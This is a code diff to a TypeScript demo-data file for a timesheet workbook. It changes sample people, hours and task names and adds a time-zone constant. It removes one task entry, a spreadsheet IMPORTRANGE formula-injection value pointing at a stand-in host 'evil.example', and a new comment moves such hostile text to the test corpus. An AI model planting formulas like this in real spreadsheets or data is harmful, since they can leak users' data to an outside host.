@@ -59,6 +59,7 @@ export const CLIENTS: (ClientSpec & { initialHours: number })[] = [
 
 const PEOPLE = ['Ann Peeters', 'Ben Claes', 'Chloé Martin', 'Dries Wouters'];
 const HOURS: unknown[] = ['1:30', 2, 0.75, '45m', '1h15', 3, 1.5, '0:20', 2.25, '1:05', 0.5, '2h'];
+/** What the demo's people worked on. Hostile text belongs in the tests (test/trust/injection-corpus.ts), not in what a new user reads. */
 const TASKS = [
   'Design review',
   'Sprint planning',
@@ -68,7 +69,7 @@ const TASKS = [
   'Analytics report',
   'Landing page build',
   'QA pass',
-  '\'=IMPORTRANGE("https://evil.example","A1")',
+  'Newsletter template',
 ];
 
 /** Weekdays from `from` to `to` (inclusive), as yyyy-mm-dd strings typed into the Date column. */
@@ -80,6 +81,9 @@ function weekdays(from: Date, to: Date): string[] {
   }
   return days;
 }
+
+/** The demo workbook's time zone: the demo prints every date and time in it, as the workbook shows them. */
+export const TIME_ZONE = 'Europe/Brussels';
 
 export const START = new Date(Date.UTC(2026, 8, 1, 8));
 export const END = new Date(Date.UTC(2026, 9, 30, 18));
